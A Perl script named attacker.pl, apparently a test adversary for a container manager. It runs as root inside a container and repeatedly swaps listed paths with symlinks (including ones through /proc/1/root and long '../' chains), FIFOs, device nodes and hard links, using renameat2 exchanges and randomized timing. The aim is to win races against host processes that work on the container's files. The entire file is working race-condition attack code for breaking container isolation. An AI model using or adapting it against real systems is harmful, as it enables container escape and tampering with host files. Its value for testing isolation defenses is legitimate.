# perl attacker.pl ROOT NUMBERS: what root in a pot does while the host works on the pot. ROOT: `/`, or for a pot that is down its tree. NUMBERS: of renameat2(2) and mknodat(2).
# /attack has the things to swap, one a line: PATH KIND TARGET. A path that ends with a slash is a directory. Each of them is exchanged with a thing of that
# kind, again and again. A new /attack counts from the next round on. The number of exchanges goes to /attack.count.
my $root = shift;
my ($exchange, $mknod) = map { $_ + 0 } @ARGV;
chroot $root and chdir '/' or die "chroot: $!";
setpriority(0, 0, 15);
my ($known, $count, @things) = ('', 0);

sub text { open(my $file, '<', shift) or return ''; local $/; return <$file> // '' }
sub parents { my ($path) = @_; while ($path =~ m{/}g) { my $part = substr($path, 0, pos($path) - 1); mkdir $part if $part ne '' } }

sub make {
  my ($path, $kind, $target) = @_;
  unlink $path or rmdir $path;
  if ($kind eq 'link') { symlink $target, $path }
  elsif ($kind eq 'link of many steps') { symlink '../' x 30 . substr($target, 1), $path }
  elsif ($kind eq 'link through proc') { symlink "/proc/1/root$target", $path }
  elsif ($kind eq 'fifo') { syscall($mknod, -100, $path, 0010666, 0) }
  elsif ($kind eq 'device') { syscall($mknod, -100, $path, 0020666, 0x105) }
  elsif ($kind eq 'hard link') { link '/root/own', $path }
  elsif ($kind eq 'file') { open(my $file, '>', $path) }
  elsif ($kind eq 'directory') { mkdir $path }
}

sub own { my ($path, $directory) = @_; return ! -l $path && ($directory ? -d $path : -f $path) }

# What is there when nothing is swapped. A hidden neighbour has the other thing.
sub prepare {
  my ($path, $directory, $kind, $target) = @_;
  parents($path);
  if (! own($path, $directory)) {
    unlink $path or rmdir $path;
    rename "$path.aside", $path if own("$path.aside", $directory);
  }
  if ($directory) { mkdir $path; mkdir "$path/d" }
  elsif (! -e $path && open(my $file, '>', $path)) { print $file "own\n" }
  make("$path.aside", $kind, $target) if ! -l "$path.aside" && ! -e "$path.aside";
}

# The thing itself is put back, and the other one removed.
sub restore {
  my ($path, $directory) = @_;
  rename "$path.aside", $path if ! own($path, $directory);
  unlink "$path.aside" or rmdir "$path.aside";
}

for (my $round = 0;; $round++) {
  if ($round % 20 == 0 && (my $now = text('/attack')) ne $known) {
    restore(@$_) for @things;
    $known = $now;
    @things = map { my ($path, $kind, $target) = split /\t/; my $directory = $path =~ s{/$}{}; [$path, $directory, $kind, $target] } split /\n/, $now;
    restore(@$_), prepare(@$_) for @things;
  }
  for (@things) {
    my $path = $_->[0];
    if (syscall($exchange, -100, $path, -100, "$path.aside", 2) == 0) { $count++ } else { prepare(@$_) }
  }
  if (open(my $file, '>', '/attack.count')) { print $file $count; close $file }
  # Mostly as fast as a command looks twice; now and then long enough for one to get through.
  select(undef, undef, undef, rand() < 0.97 ? rand 0.004 : rand 0.5);
}
